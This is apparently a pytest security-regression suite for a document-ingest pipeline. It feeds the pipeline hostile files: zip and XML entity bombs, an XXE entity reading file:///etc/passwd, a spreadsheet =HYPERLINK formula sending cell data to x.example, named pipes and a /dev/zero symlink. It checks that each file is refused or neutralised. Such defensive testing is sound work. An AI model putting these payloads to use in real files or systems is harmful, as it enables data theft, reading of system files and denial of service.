"""No single file sinks a run (issue 17, item 2), and the smaller findings (items 4 and 5).

Every test is a finding reproduced with a real hostile file: a zip bomb, a 5 m square page, a
named pipe, a name that is not UTF-8, a worker killed mid-file. Each file gets a row with a status
and a message, and the run goes on.
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pandas as pd
import pytest
import typer
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.core import config
from pipeline.ingest import extract, ocr
from pipeline.run import runner
from pipeline.run.runner import IngestOptions, ingest_corpus
from tests import hostile

ROOT = Path(__file__).resolve().parents[2]
needs_ocr = pytest.mark.skipif(not ocr.available(), reason="tesseract is not installed")


@contextmanager
def deadline(seconds: int) -> Iterator[None]:
    """Fail, rather than hang the suite, if the block runs past ``seconds``."""

    def expired(signum: int, frame: object) -> None:
        raise TimeoutError(f"still running after {seconds} s: the run hangs")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def _ingest(corpus: Path, out: Path, **kw: object) -> dict[str, dict[str, object]]:
    """`involve ingest` in this process; the documents table by source."""
    result = ingest_corpus(IngestOptions(corpus=corpus, out=out, **kw))  # type: ignore[arg-type]
    return {str(row["source"]): row for row in result.documents}


@pytest.fixture
def corpus(tmp_path: Path, fixtures_dir: Path) -> Path:
    folder = tmp_path / "board"
    folder.mkdir()
    shutil.copy(fixtures_dir / "mini-minutes.txt", folder / "mini-minutes.txt")
    return folder


# --------------------------------------------------------------------------- zip bombs
def test_a_docx_bomb_is_refused_in_a_moment_without_unpacking_it(tmp_path: Path) -> None:
    """The finding: an ~80 KB .docx of millions of empty paragraphs took 60 s and 1.9 GB."""
    bomb = hostile.docx_bomb(tmp_path / "minutes.docx")
    assert bomb.stat().st_size < 150_000
    started = time.perf_counter()
    result = extract("minutes.docx", bomb.read_bytes())
    assert time.perf_counter() - started < 5
    assert result.status == "error"
    assert "zip bomb" in result.message and "--max-zip-ratio" in result.message


@pytest.mark.slow
def test_the_zip_limits_have_flags_a_genuine_big_file_can_pass(tmp_path: Path) -> None:
    bomb = hostile.docx_bomb(tmp_path / "minutes.docx", paragraphs=300_000)
    loose = config.Limits(max_zip_ratio=10_000, max_unzipped_mb=1_000)
    assert extract("minutes.docx", bomb.read_bytes(), limits=loose).status != "error"
    tight = config.Limits(max_unzipped_mb=0.001, max_zip_ratio=10_000)
    result = extract("minutes.docx", bomb.read_bytes(), limits=tight)
    assert result.status == "error" and "--max-unzipped-mb" in result.message


def test_an_odt_bomb_is_refused(tmp_path: Path, fixtures_dir: Path) -> None:
    odt = tmp_path / "minutes.odt"
    with (
        zipfile.ZipFile(fixtures_dir / "mini-minutes.odt") as src,
        zipfile.ZipFile(odt, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "content.xml":
                data = data.replace(b"</office:text>", b"<text:p/>" * 3_000_000 + b"</office:text>")
            dst.writestr(item, data, compress_type=zipfile.ZIP_DEFLATED)
    result = extract("minutes.odt", odt.read_bytes())
    assert result.status == "error" and "zip bomb" in result.message


# --------------------------------------------------------------------------- OCR caps
@pytest.mark.slow
@needs_ocr
def test_a_five_metre_page_is_ocrd_at_a_lower_resolution_not_in_gigabytes(tmp_path: Path) -> None:
    """The finding: a 1.3 KB PDF with one 14,400 pt page took 3.6 GB to render for OCR."""
    pdf = hostile.giant_page_pdf(tmp_path / "poster.pdf")
    # The peak from /proc (VmHWM), not getrusage: ru_maxrss survives exec, so a child of a big
    # pytest process would report its parent's size.
    script = (
        "import re\n"
        "from pathlib import Path\n"
        "from pipeline.ingest import extract\n"
        f"r = extract('poster.pdf', open({str(pdf)!r}, 'rb').read())\n"
        "hwm = re.search(r'VmHWM:\\s+(\\d+)', Path('/proc/self/status').read_text())\n"
        "print(r.status, int(hwm.group(1)) // 1024 if hwm else 0)\n"
        "print(r.message)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, cwd=ROOT, timeout=120
    )
    status, peak_mb = done.stdout.split("\n")[0].split()
    assert status == "warning", done.stdout + done.stderr
    assert 0 < int(peak_mb) < 500, f"{peak_mb} MB"
    assert "lower resolution" in done.stdout and "--max-ocr-megapixels" in done.stdout


@pytest.mark.slow
@needs_ocr
def test_scanned_pages_past_the_cap_are_not_ocrd_and_the_row_says_so(fixtures_dir: Path) -> None:
    data = (fixtures_dir / "mini-minutes-scan.pdf").read_bytes()
    result = extract("scan.pdf", data, limits=config.Limits(max_ocr_pages=1))
    assert [p.ocr for p in result.pages] == [True, False]
    assert result.status == "warning" and "--max-ocr-pages" in result.message


# --------------------------------------------------------------------------- time, death
@pytest.mark.slow
@needs_ocr
def test_a_file_past_the_time_limit_is_an_error_and_the_run_goes_on(
    corpus: Path, fixtures_dir: Path, tmp_path: Path
) -> None:
    shutil.copy(fixtures_dir / "mini-minutes-scan.pdf", corpus / "scan.pdf")
    # The text reader's imports done here, so the forked workers start with them: on a busy
    # machine importing them could take longer than the limit. OCR of the scan takes seconds.
    extract("warm.txt", (corpus / "mini-minutes.txt").read_bytes())
    for workers in (1, 2):
        rows = _ingest(
            corpus,
            tmp_path / f"out{workers}",
            workers=workers,
            force=True,
            limits=config.Limits(file_seconds=1.0),
        )
        assert rows["scan.pdf"]["status"] == "error"
        assert "--file-timeout" in str(rows["scan.pdf"]["message"])
        assert rows["mini-minutes.txt"]["status"] == "ok"


@pytest.mark.slow
def test_a_worker_that_dies_marks_its_file_and_the_run_goes_on(
    corpus: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The finding: a worker killed by the out-of-memory killer aborted everything ("process pool
    was terminated abruptly") without naming the file."""
    for n in range(4):
        (corpus / f"notes-{n}.txt").write_text(f"Minutes of meeting {n}. " * 40, encoding="utf-8")
    (corpus / "killer.txt").write_text("Minutes. " * 2000, encoding="utf-8")
    real = runner.extract

    def oom(rel: str, data: bytes, *args: object) -> object:
        if rel == "killer.txt":  # as the out-of-memory killer does
            os.kill(os.getpid(), signal.SIGKILL)
        return real(rel, data, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(runner, "extract", oom)  # the workers are forked with it
    with deadline(120):
        rows = _ingest(corpus, tmp_path / "out", workers=2)
    assert rows["killer.txt"]["status"] == "error"
    assert "died" in str(rows["killer.txt"]["message"])
    for n in range(4):
        assert rows[f"notes-{n}.txt"]["status"] == "ok"


def _children(pid: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.append(int(entry.name))
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads /proc")
def test_workers_exit_when_the_main_process_is_killed(tmp_path: Path, corpus: Path) -> None:
    """The finding: after kill -9 of `involve analyse`, its workers ran on (300 MB each)."""
    for n in range(3):
        (corpus / f"slow-{n}.txt").write_text("x", encoding="utf-8")
    script = (
        "import time\n"
        "from pathlib import Path\n"
        "from pipeline.run import runner\n"
        "runner.extract = lambda *a, **k: time.sleep(600)\n"
        f"runner.ingest_corpus(runner.IngestOptions(corpus=Path({str(corpus)!r}), "
        f"out=Path({str(tmp_path / 'out')!r}), workers=2))\n"
    )
    main = subprocess.Popen([sys.executable, "-c", script], cwd=ROOT)
    try:
        for _ in range(200):
            workers = _children(main.pid)
            if len(workers) >= 2:
                break
            time.sleep(0.1)
        assert len(workers) >= 2, "the workers started"
        main.kill()
        main.wait()
        for _ in range(50):
            if not any(_alive(w) for w in workers):
                break
            time.sleep(0.1)
        assert not any(_alive(w) for w in workers)
    finally:
        main.kill()
        for w in _children(main.pid):
            os.kill(w, signal.SIGKILL)


# --------------------------------------------------------------------------- odd files
def test_a_fifo_is_skipped_not_waited_on(corpus: Path, tmp_path: Path) -> None:
    """The finding: a FIFO named notes.txt hung the run forever."""
    os.mkfifo(corpus / "notes.txt")
    with deadline(60):
        rows = _ingest(corpus, tmp_path / "out", workers=1)
    assert rows["notes.txt"]["status"] == "skipped"
    assert "named pipe" in str(rows["notes.txt"]["message"])
    assert rows["mini-minutes.txt"]["status"] == "ok"


def test_a_name_that_is_not_utf8_is_read_and_shown_safely(corpus: Path, tmp_path: Path) -> None:
    """The finding: a file name with non-UTF-8 bytes aborted `analyse` and `ingest`."""
    text = (corpus / "mini-minutes.txt").read_bytes()
    os.rename(corpus / "mini-minutes.txt", os.fsencode(corpus) + b"/minutes-caf\xe9.txt")
    rows = _ingest(corpus, tmp_path / "out", workers=1)
    assert rows == {"minutes-caf\\xe9.txt": rows["minutes-caf\\xe9.txt"]}
    assert rows["minutes-caf\\xe9.txt"]["status"] == "ok"
    pages = pd.read_parquet(tmp_path / "out" / "tables" / "pages.parquet")
    assert pages["text"].str.len().sum() > len(text) / 2


def test_rich_markup_in_a_file_name_is_printed_not_interpreted(
    corpus: Path, tmp_path: Path
) -> None:
    """The finding: "[/]" in a file-supplied name replaced the real message with a MarkupError."""
    (corpus / "old [").mkdir()  # the path "old [/] minutes.pdf" closes a tag never opened
    (corpus / "old [" / "] minutes.pdf").write_bytes(b"%PDF-1.4 truncated")
    result = CliRunner().invoke(
        app, ["ingest", str(corpus), "--out", str(tmp_path / "out"), "--workers", "1"]
    )
    assert result.exit_code == 0, result.output
    assert "old [/] minutes.pdf" in result.output.replace("\n", "")
    assert "MarkupError" not in result.output


# --------------------------------------------------------------------------- spreadsheet-safe CSV
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Minutes")', "+1+2", "-2+3", "@SUM(A1)", "\tx"]


def test_text_a_spreadsheet_would_run_is_neutralised_in_csv_and_exact_in_parquet(
    corpus: Path, tmp_path: Path
) -> None:
    """The finding: cells starting =HYPERLINK(, +, -, @ were written as they are into CSV."""
    (corpus / "formula.txt").write_text(FORMULAS[0] + "\n\nMinutes of the meeting.", "utf-8")
    _ingest(corpus, tmp_path / "out", workers=1)
    tables = tmp_path / "out" / "tables"
    pages = pd.read_parquet(tables / "pages.parquet").set_index("source")
    assert pages.loc["formula.txt", "text"].startswith(FORMULAS[0])
    as_csv = pd.read_csv(tables / "pages.csv", keep_default_na=False).set_index("source")
    assert as_csv.loc["formula.txt", "text"].startswith("'" + FORMULAS[0])


def test_both_table_writers_neutralise_the_same_cells_and_leave_numbers(tmp_path: Path) -> None:
    from pipeline.core import io

    rows = [
        {"source": text, "sha256": "x", "pages": -1}
        for text in [*FORMULAS, "plain", "a=b", "'quoted"]
    ]
    frame = pd.DataFrame(rows)
    io.write_table(frame, "t", tmp_path)
    written = pd.read_csv(tmp_path / "t.csv", keep_default_na=False, dtype=str)
    assert list(written["source"]) == [
        *("'" + f for f in FORMULAS),
        "plain",
        "a=b",
        "'quoted",
    ]
    assert set(written["pages"]) == {"-1"}, "numbers are not text: they stay as they are"
    assert list(pd.read_parquet(tmp_path / "t.parquet")["source"]) == list(frame["source"])
    assert io.csv_safe("\rcr") == "'\rcr"


# --------------------------------------------------------------------------- .qdpx
def _qdpx(path: Path, project: bytes, extra: dict[str, bytes] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("project.qde", project)
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return path


PROJECT = b'<?xml version="1.0"?><Project xmlns="urn:QDA-XML:project:1.0" name="p">%s</Project>'


@pytest.mark.slow
def test_a_qdpx_with_a_gigabyte_member_is_refused_before_reading(tmp_path: Path) -> None:
    """The finding: a 1 MB .qdpx with a 1 GiB member took 2.4 GB in `validate`."""
    from pipeline.core.errors import GoldFileError
    from pipeline.qda.read import read_qdpx

    path = tmp_path / "review.qdpx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("project.qde", PROJECT % b"")
        with zf.open("sources/big.txt", "w", force_zip64=True) as member:
            block = b"\0" * (1 << 20)
            for _ in range(1024):
                member.write(block)
    assert path.stat().st_size < 2_000_000
    started = time.perf_counter()
    with pytest.raises(GoldFileError, match=r"review.qdpx.*zip bomb"):
        read_qdpx(path)
    assert time.perf_counter() - started < 5


def test_thousands_of_nested_codes_are_read_without_recursion(tmp_path: Path) -> None:
    """The finding: 5,000 nested codes gave "maximum recursion depth exceeded"."""
    from pipeline.qda.read import read_qdpx

    depth = 5000
    codes = b"".join(
        b'<Code guid="g%d" name="c%d" isCodable="true">' % (i, i) for i in range(depth)
    )
    codes += b"</Code>" * depth
    path = _qdpx(
        tmp_path / "deep.qdpx", PROJECT % (b"<CodeBook><Codes>" + codes + b"</Codes></CodeBook>")
    )
    project = read_qdpx(path)
    assert len(project.codes) == depth
    assert len(project.ancestors(f"g{depth - 1}")) == depth


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE p [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ],
)
def test_entities_in_a_qdpx_are_refused_by_the_parser_itself(
    tmp_path: Path, doctype: bytes
) -> None:
    from pipeline.core.errors import GoldFileError
    from pipeline.qda.read import read_qdpx

    xml = b'<?xml version="1.0"?>' + doctype + b'<Project name="&b;"></Project>'
    with pytest.raises(GoldFileError, match="entities"):
        read_qdpx(_qdpx(tmp_path / "x.qdpx", xml))


def test_exported_source_names_hold_no_slash_and_join_back(tmp_path: Path) -> None:
    """The finding: QualCoder 4.0 warned on each source named "minutes/..." and did not copy
    its document."""
    from qda_fixtures import UNITS, write_analysis, write_codebook

    from pipeline.evaluate.gold import load_gold
    from pipeline.qda.export import export_qdpx
    from pipeline.qda.read import read_qdpx

    assert all(u["source"].startswith("minutes/") for u in UNITS)
    out = tmp_path / "out"
    write_analysis(out, UNITS, write_codebook(tmp_path))
    qdpx, _, _ = export_qdpx(out)
    project = read_qdpx(qdpx)
    names = [s.name for s in project.sources.values()]
    assert names and not any("/" in n for n in names)
    assert all(n.startswith("minutes\u2215") for n in names)
    gold = load_gold(qdpx, user=next(iter(project.users.values())))
    assert set(gold["source"]) == {u["source"] for u in UNITS}


def test_a_page_of_unclosed_tags_is_read_in_a_moment() -> None:
    """Found by the fuzz harness: 35 KB of unclosed <a><p> nested a thousand deep took minutes
    (every element asked bs4 for its parents)."""
    page = b"<html><body>" + b'<a href="/x"><p>\xc2\xa9 Eastbrook Council. ' * 1000
    started = time.perf_counter()
    result = extract("minutes.html", page)
    assert time.perf_counter() - started < 5
    assert result.status == "ok" and result.pages[0].text.count("Eastbrook") == 1000


# --------------------------------------------------------------------------- the cache
def test_a_cache_entry_of_the_wrong_shape_is_a_miss_not_a_crash(
    corpus: Path, tmp_path: Path
) -> None:
    """The finding: a cache entry that was valid JSON of the wrong shape crashed the run."""
    first = _ingest(corpus, tmp_path / "out1", workers=1)
    entries = list(config.cache_dir().rglob("*.json"))
    assert entries
    for shape in ('{"pages": "x"}', "[1, 2]", '{"extractor": 1, "pages": [], "status": "ok"}'):
        for entry in entries:
            entry.write_text(shape, encoding="utf-8")
        again = _ingest(corpus, tmp_path / "out2", workers=1)
        assert again["mini-minutes.txt"]["status"] == first["mini-minutes.txt"]["status"] == "ok"
        assert again["mini-minutes.txt"]["n_words"] == first["mini-minutes.txt"]["n_words"]


def test_the_cache_is_the_owners_alone_whatever_the_umask(corpus: Path, tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        _ingest(corpus, tmp_path / "out", workers=1)
    finally:
        os.umask(old)
    root = config.cache_dir()
    for path in [root, *root.rglob("*")]:
        mode = path.stat().st_mode & 0o777
        assert mode & 0o077 == 0, (path, oct(mode))


def test_force_bypasses_every_cache(tmp_path: Path) -> None:
    from pipeline.core import io

    cache = io.Cache(tmp_path)
    cache.put("embed", "k" * 40, [0.5, 0.25])
    assert cache.get("embed", "k" * 40) == [0.5, 0.25]
    forced = io.Cache(tmp_path, write_only=True)
    assert forced.get("embed", "k" * 40) is None, "--force computes again"
    forced.put("embed", "k" * 40, [1.0])
    assert cache.get("embed", "k" * 40) == [1.0], "and what it computes replaces the old"


def test_a_thousand_nested_tables_are_read_in_a_moment_and_nothing_is_lost() -> None:
    """Found by the fuzz harness: 85 KB of tables nested in cells a thousand deep took 10 s
    (every cell of every nested table was read again for the outer row)."""
    page = b"<html><body>" + b"<table><tr><td>Spend Q1 \xc2\xa35,100 " * 1000
    started = time.perf_counter()
    result = extract("minutes.html", page)
    assert time.perf_counter() - started < 2
    # Each cell's words once: the outer rows no longer repeat every nested cell (500,500 times).
    assert result.pages[0].text.count("Spend") == 1000


@pytest.mark.slow
def test_yaml_nested_thousands_deep_is_an_error_naming_the_file(tmp_path: Path) -> None:
    """Found by the fuzz harness: a board.yaml of nested '[' raised RecursionError."""
    from pipeline.core import io
    from pipeline.core.errors import BoardFileError

    board = tmp_path / "board.yaml"
    board.write_text("members: " + "[" * 5000, encoding="utf-8")
    with pytest.raises(BoardFileError, match=r"board.yaml: nested"):
        io.load_board(tmp_path, board)


def test_a_thousand_nested_banners_are_read_in_a_moment() -> None:
    """Found by the fuzz harness: furniture nested a thousand deep had its text read once per
    level."""
    page = b"<html><body><p>Minutes of the board.</p>" + b"<nav>Home Menu " * 1500
    started = time.perf_counter()
    result = extract("minutes.html", page)
    assert time.perf_counter() - started < 3
    assert "Minutes of the board." in result.pages[0].text


# --------------------------------------------------------------------------- new kinds of file
# Tried as an adversary would, with hostile files of kinds the findings above did not list.
def _peak_mb(script: str) -> tuple[list[str], int]:
    """Run ``script`` (which prints lines) in a fresh interpreter; its output and peak memory
    from /proc (VmHWM: ru_maxrss of a child would report this big pytest process's size)."""
    tail = (
        "\nimport re\nfrom pathlib import Path\n"
        "hwm = re.search(r'VmHWM:\\s+(\\d+)', Path('/proc/self/status').read_text())\n"
        "print(int(hwm.group(1)) // 1024 if hwm else 0)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script + tail], capture_output=True, text=True, cwd=ROOT, timeout=120
    )
    lines = done.stdout.strip().split("\n")
    assert done.returncode == 0 and lines, done.stderr
    return lines[:-1], int(lines[-1])


def test_a_web_page_of_a_million_attributes_is_refused_without_building_it(
    tmp_path: Path,
) -> None:
    """The finding: 10 MB of one tag's attributes took 13 s and 430 MB in BeautifulSoup (4 GB at
    the 100 MB file limit) and came back `ok`; lxml's own tree of it was quadratic."""
    page = tmp_path / "minutes.html"
    page.write_bytes(hostile.html_attribute_bomb())
    lines, peak = _peak_mb(
        "from pipeline.ingest import extract\n"
        f"r = extract('minutes.html', open({str(page)!r}, 'rb').read())\n"
        "print(r.status)\nprint(r.message)\n"
    )
    assert lines[0] == "error"
    assert "elements and attributes" in lines[1] and "--max-html-elements" in lines[1]
    assert 0 < peak < 250, f"{peak} MB"


def test_max_html_elements_is_a_limit_a_genuine_long_page_can_pass(
    corpus: Path, tmp_path: Path
) -> None:
    page = b"<html><body><h1>Minutes</h1>" + b'<p class="item">The board noted it.</p>' * 400
    (corpus / "long.html").write_bytes(page)
    tight = CliRunner().invoke(
        app,
        [
            "ingest",
            str(corpus),
            "--out",
            str(tmp_path / "a"),
            "--workers",
            "1",
            "--max-html-elements",
            "500",
        ],
    )
    assert tight.exit_code == 0, tight.output
    rows = pd.read_parquet(tmp_path / "a" / "tables" / "documents.parquet")
    row = rows[rows["source"] == "long.html"].iloc[0]
    assert row["status"] == "error" and "--max-html-elements" in row["message"]
    # The default lets it through, and the run read the other file either way.
    assert extract("long.html", page).status == "ok"
    assert set(rows["status"]) == {"ok", "error"}


def test_a_pdf_page_tree_that_loops_back_keeps_the_pages_that_load() -> None:
    """The finding: a page tree listing itself among its kids made the whole PDF an error,
    "could not be read (PdfiumError: Failed to load page 2.)", though page 1 was sound."""
    result = extract("minutes.pdf", hostile.cyclic_page_tree_pdf())
    assert result.status == "warning"
    assert "pages 2 cannot be loaded" in result.message and "re-export" in result.message
    assert [page.number for page in result.pages] == [1, 2]
    assert "Minutes of the meeting of the board" in result.pages[0].text


def test_a_pdf_with_no_page_that_loads_says_its_page_tree_is_damaged() -> None:
    result = extract("minutes.pdf", hostile.cyclic_page_tree_pdf(every_page=True))
    assert result.status == "error"
    assert "page tree" in result.message and "re-export" in result.message
    assert "PdfiumError" not in result.message


def test_utf16_text_without_a_byte_order_mark_is_read_not_called_binary() -> None:
    """The finding: UTF-16 saved without a byte-order mark (some Windows tools do) was refused
    as "binary data, not text (it has NUL bytes)"."""
    text = "Minutes of the meeting\n\nPresent: the chair and two members.\n" * 3
    for encoding in ("utf-16-le", "utf-16-be"):
        result = extract("minutes.txt", text.encode(encoding))
        assert result.status == "warning" and encoding in result.message, result.message
        assert "Present: the chair and two members." in result.pages[0].text


def test_a_text_file_of_nul_bytes_is_still_binary() -> None:
    data = b"Minutes of the meeting\x00\x00\n\nPresent:\x00 the chair.\n" + b"\x00" * 100_000
    result = extract("minutes.txt", data)
    assert result.status == "error" and "binary data" in result.message


@pytest.mark.parametrize(
    ("name", "seed", "member"),
    [
        ("minutes.docx", "mini-minutes.docx", "word/document.xml"),
        ("minutes.odt", "mini-minutes.odt", "content.xml"),
    ],
)
def test_an_xml_entity_bomb_in_a_word_file_is_named_as_one(
    name: str, seed: str, member: str, fixtures_dir: Path
) -> None:
    """The finding: "billion laughs" inside a sound package was called damaged, for the .odt
    with libxml2's "Maximum entity amplification factor exceeded, see
    xmlCtxtSetMaxAmplification"."""
    package = (fixtures_dir / seed).read_bytes()
    bomb = hostile.with_entities(package, member, hostile.laughs_doctype(), b"&a9;")
    started = time.perf_counter()
    result = extract(name, bomb)
    assert time.perf_counter() - started < 5
    assert result.status == "error" and "declares its own XML entities" in result.message
    assert "xmlCtxt" not in result.message


@pytest.mark.parametrize(
    ("name", "seed", "member"),
    [
        ("minutes.docx", "mini-minutes.docx", "word/document.xml"),
        ("minutes.odt", "mini-minutes.odt", "content.xml"),
    ],
)
def test_a_word_file_naming_a_file_outside_does_not_read_it(
    name: str, seed: str, member: str, fixtures_dir: Path, tmp_path: Path
) -> None:
    """Held when tried: an external entity (XXE) naming a local file is not expanded, and the
    rest of the document is read."""
    secret = tmp_path / "secret.txt"
    secret.write_text("Bank sort code 40-11-62", encoding="utf-8")
    doctype = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file://%s">]>' % str(secret).encode()
    package = hostile.with_entities((fixtures_dir / seed).read_bytes(), member, doctype, b"&x;")
    result = extract(name, package)
    assert result.status == "ok"
    assert "40-11-62" not in result.pages[0].text
    assert "Minutes" in result.pages[0].text or "minutes" in result.pages[0].text


def test_a_board_file_that_is_a_named_pipe_is_refused_not_waited_on(tmp_path: Path) -> None:
    """The finding: a corpus's board.yaml that is a named pipe made `analyse` wait for ever."""
    from pipeline.core import io
    from pipeline.core.errors import BoardFileError

    os.mkfifo(tmp_path / "board.yaml")
    with deadline(20), pytest.raises(BoardFileError, match="not a regular file"):
        io.load_board(tmp_path)


def test_a_board_file_linked_to_dev_zero_is_refused_not_read(tmp_path: Path) -> None:
    """The finding: a corpus's board.yaml linked to /dev/zero was read until memory ran out (5 GB
    in 14 s under a 6 GB cap), and the run ended with "error: " and nothing after it."""
    corpus = tmp_path / "board"
    corpus.mkdir()
    (corpus / "board.yaml").symlink_to("/dev/zero")
    # In a child held to 1 GB, so that a regression fails this test, not the machine.
    script = (
        "import resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))\n"
        "from pipeline.cli import main\n"
        f"sys.argv = ['involve', 'analyse', {str(corpus)!r}, '--out', {str(tmp_path / 'out')!r}]\n"
        "main()\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, cwd=ROOT, timeout=120
    )
    assert done.returncode == 2, done.stdout + done.stderr
    output = " ".join((done.stdout + done.stderr).split())
    assert "board.yaml: not a regular file" in output and "replace it" in output


def test_an_error_without_a_message_still_says_what_it_was() -> None:
    from pipeline.cli import _fail, console

    with console.capture() as captured, pytest.raises(typer.Exit):
        _fail(MemoryError())
    assert "MemoryError" in captured.get()


def test_a_paragraph_of_a_million_characters_is_cut_into_blocks_every_word_kept() -> None:
    """The finding: a text file of one 1.05-million-character paragraph stopped the whole
    analysis with spaCy's "E088 Text of length 1054000 exceeds maximum of 1000000" (and a
    400 KB one took the run to 2.3 GB)."""
    from pipeline.ingest import MAX_BLOCK_CHARS

    head = "Minutes of the meeting held on 12 March 2024\n\n1. Services\n\n"
    clause = "The officer said the waiting list had grown and the board noted it;"
    text = head + " ".join([clause] * 15_500) + "\n"
    assert len(text) > 1_000_000
    result = extract("minutes.txt", text.encode())
    blocks = result.pages[0].text.split("\n\n")
    assert result.status == "ok"
    assert max(len(b) for b in blocks) <= MAX_BLOCK_CHARS
    assert result.pages[0].text.split() == text.split(), "every word kept, in order"
    # Cut after a clause, not mid-word, when the text gives one.
    assert all(b.endswith(";") for b in blocks[2:-1])


def test_a_block_with_no_space_at_all_is_still_cut() -> None:
    from pipeline.ingest import MAX_BLOCK_CHARS, cap_blocks

    blob = "x" * (MAX_BLOCK_CHARS * 2 + 5)
    blocks = cap_blocks(blob).split("\n\n")
    assert "".join(blocks) == blob and max(map(len, blocks)) <= MAX_BLOCK_CHARS
